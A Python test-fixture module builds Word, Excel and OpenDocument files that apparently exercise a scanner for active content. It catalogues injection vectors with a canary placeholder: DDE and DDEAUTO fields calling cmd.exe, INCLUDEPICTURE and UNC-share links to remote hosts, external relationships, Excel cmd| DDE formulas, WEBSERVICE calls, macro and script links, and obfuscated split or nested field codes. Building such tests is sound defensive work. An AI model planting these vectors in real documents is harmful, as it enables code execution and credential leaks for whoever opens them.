"""Documents that fetch or run something when they are opened, brought up to date or pressed on."""

from collections.abc import Iterator, Mapping

from tests.corpus.building import CANARY, CONTENT, OPEN, WORD, office

STAYS = "Free them all"
Reaching = tuple[str, str, bytes]
"""What it does, the ending of the file, and what is in it: the canary stands in what reaches out."""

WHERE = f"https://{CANARY}.example.org/x"
KIND = f"{CONTENT}/officeDocument/2006/relationships"


def text(*inside: str) -> str:
    body = "".join(f"<w:p>{each}</w:p>" for each in inside)
    return f'<w:document xmlns:w="{WORD}" xmlns:v="v"><w:body>{body}<w:p>{said(STAYS)}</w:p></w:body></w:document>'


def said(words: str) -> str:
    return f"<w:r><w:t>{words}</w:t></w:r>"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def field(*pieces: str, shown: str = "shown before") -> str:
    return mark("begin") + code(*pieces) + mark("separate") + said(shown) + mark("end")


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<x><Relationship Id="r" Type="{KIND}/{kind}" Target="{target}" TargetMode="{mode}"/></x>'


def reaching() -> Iterator[Reaching]:
    yield from _texts()
    for ending, make in (("docx", _text_parts), ("xlsx", _sheet_parts), ("odt", _open_parts), ("ods", _open_parts)):
        for number, (name, part) in enumerate(make()):
            yield f"{name} {number}", ending, office(ending, {name: part})


def _texts() -> Iterator[Reaching]:
    for name, inside in TEXTS.items():
        yield name, "docx", office("docx", {"word/document.xml": text(inside)})
    moved = {"x/d.xml": text(field(f'DDE cmd "/c {CANARY}"')), "word/document.xml": text()}
    yield "a field where nobody looks", "docx", office("docx", moved)


TEXTS: Mapping[str, str] = {
    "a picture from elsewhere": field(f'INCLUDEPICTURE "{WHERE}.png" \\d'),
    "in small letters": field(f' includepicture  "{WHERE}.png"'),
    "cut up": field("INCL", "UDEPIC", "TURE ", f'"{WHERE}.png"'),
    "text from elsewhere": field(f'INCLUDETEXT "\\\\{CANARY}\\share\\x.docx"'),
    "a program": field(f'DDEAUTO c:\\windows\\cmd.exe "/k {CANARY}"'),
    "a program, asked": field(f'DDE "cmd" "/c {CANARY}"'),
    "a table kept elsewhere": field(f'LINK Excel.Sheet.12 "{WHERE}.xlsx" "A1" \\a'),
    "a macro": field(f"MACROBUTTON {CANARY} Press"),
    "a link to a file": field(f'HYPERLINK "file://{CANARY}/share/x"'),
    "a link to a share": field(f'HYPERLINK "\\\\{CANARY}\\share"'),
    "another document": field(f'RD "{WHERE}.docx"'),
    "a database": field(f'DATABASE \\d "{WHERE}.mdb" \\c "DSN=x"'),
    "in one piece": f'<w:fldSimple w:instr="INCLUDEPICTURE {WHERE}">{said("shown before")}</w:fldSimple>',
    "made of others": mark("begin") + field("QUOTE DDE", shown="DDE") + code(f" PAGE cmd {CANARY}") + mark("end"),
    "inside of others": mark("begin") + code("PAGE ") + field(f"DDE cmd {CANARY}") + mark("separate") + mark("end"),
    "without an end": mark("begin") + code(f'INCLUDEPICTURE "{WHERE}.png"'),
    "without a beginning": code(f'INCLUDEPICTURE "{WHERE}.png"') + mark("end"),
    "its code as text": mark("begin") + said(f'DDE cmd "{CANARY}"') + mark("separate") + said("x") + mark("end"),
    "what a field keeps": f'<w:r><w:fldChar w:fldCharType="begin"><w:fldData>{CANARY}</w:fldData></w:fldChar></w:r>',
    "a drawing": f'<v:shape><v:imagedata src="{WHERE}.png"/></v:shape>',
    "a drawing that is a link": f'<v:shape href="file://{CANARY}/x"/>',
    "a remark": f"<!-- {CANARY} -->",
    "an instruction": f'<?xml-stylesheet href="{WHERE}.xsl"?>',
}


def _text_parts() -> Iterator[tuple[str, str]]:
    for kind in ("image", "oleObject", "frame", "subDocument", "attachedTemplate", "mailMergeSource", "aFChunk"):
        yield "word/_rels/document.xml.rels", relation(kind, f"{WHERE}.png")
    yield "word/_rels/document.xml.rels", relation("hyperlink", f"file://{CANARY}/share")
    yield "word/_rels/document.xml.rels", relation("hyperlink", f"\\\\{CANARY}\\share")
    yield "word/_rels/document.xml.rels", relation("image", f"{WHERE}.png", "Internal")
    merging = f'<w:mailMerge><w:connectString w:val="Data Source={CANARY}"/></w:mailMerge>'
    yield "word/settings.xml", f'<w:settings xmlns:w="{WORD}">{merging}</w:settings>'
    yield "word/webextensions/taskpanes.xml", f'<x><taskpane visibility="1" id="{CANARY}"/></x>'


def _sheet_parts() -> Iterator[tuple[str, str]]:
    yield "xl/_rels/workbook.xml.rels", relation("externalLinkPath", f"{WHERE}.xlsx")
    kept = f"<sheetDataSet><sheetData><row><cell><v>{CANARY}</v></cell></row></sheetData></sheetDataSet>"
    yield "xl/externalLinks/externalLink1.xml", f"<externalLink><externalBook>{kept}</externalBook></externalLink>"
    asked = (
        f'<ddeLink ddeService="cmd" ddeTopic="/c {CANARY}"><ddeItems><ddeItem name="{CANARY}"/></ddeItems></ddeLink>'
    )
    yield "xl/externalLinks/externalLink1.xml", f"<externalLink>{asked}</externalLink>"
    yield (
        "xl/connections.xml",
        f'<x><connection id="1" odcFile="{CANARY}"><dbPr connection="{CANARY}"/></connection></x>',
    )
    yield "xl/connections.xml", f'<x><connection id="1"><webPr url="{WHERE}"/></connection></x>'
    yield "xl/drawings/drawing1.xml", f"""<x><sp macro="[1]!'{CANARY}'"/></x>"""
    for formula in (
        f"cmd|'/c {CANARY}'!A0",
        f"[1]{CANARY}!A1",
        f'WEBSERVICE("{WHERE}")',
        f'_xlfn.IMAGE("{CANARY}"&amp;A1)',
        f'HYPERLINK("{CANARY}"&amp;A1)',
        f'rtd ("{CANARY}")',
    ):
        yield "xl/worksheets/sheet1.xml", f"<x><row><c><f>{formula}</f><v>{STAYS}</v></c></row></x>"
        yield "xl/workbook.xml", f'<x><definedName name="x">{formula}</definedName><v>{STAYS}</v></x>'


def _open_parts() -> Iterator[tuple[str, str]]:
    names = f'xmlns:o="{OPEN}:office:1.0" xmlns:t="{OPEN}:table:1.0" xmlns:l="x" xmlns:text="{OPEN}:text:1.0"'
    for inside in (
        f'<text:dde-connection-decl o:dde-application="soffice" o:dde-topic="{CANARY}" o:automatic-update="true"/>',
        f'<t:dde-link><o:dde-source o:dde-application="cmd" o:dde-item="{CANARY}"/></t:dde-link>',
        f'<text:section-source l:href="file:///{CANARY}"/>',
        f'<draw:image xmlns:draw="d" l:href="{WHERE}.png"/>',
        f'<draw:object-ole xmlns:draw="d" l:href="./{CANARY}.ttf"/>',
        f'<text:a l:href="file://{CANARY}/share">x</text:a>',
        f'<text:a l:href="vnd.sun.star.script:{CANARY}?language=Basic">x</text:a>',
        f'<text:a l:href="../{CANARY}.odt">x</text:a>',
        f'<o:event-listeners><e l:href="vnd.sun.star.script:{CANARY}"/></o:event-listeners>',
        f"<o:scripts><o:script>{CANARY}</o:script></o:scripts>",
        f'<t:table-cell t:formula="of:=WEBSERVICE(&quot;{CANARY}&quot;)"/>',
        f'<t:table-cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;{CANARY}&quot;)"/>',
        f"""<t:table-cell t:formula="of:='file:///{CANARY}.ods'#$A.A1"/>""",
    ):
        yield "content.xml", f"<o:document-content {names}>{inside}<text:p>{STAYS}</text:p></o:document-content>"
    yield "Object 1/meta.xml", f"<x><initial-creator>{CANARY}</initial-creator></x>"
    yield "META-INF/documentsignatures.xml", f"<x><X509IssuerName>{CANARY}</X509IssuerName></x>"
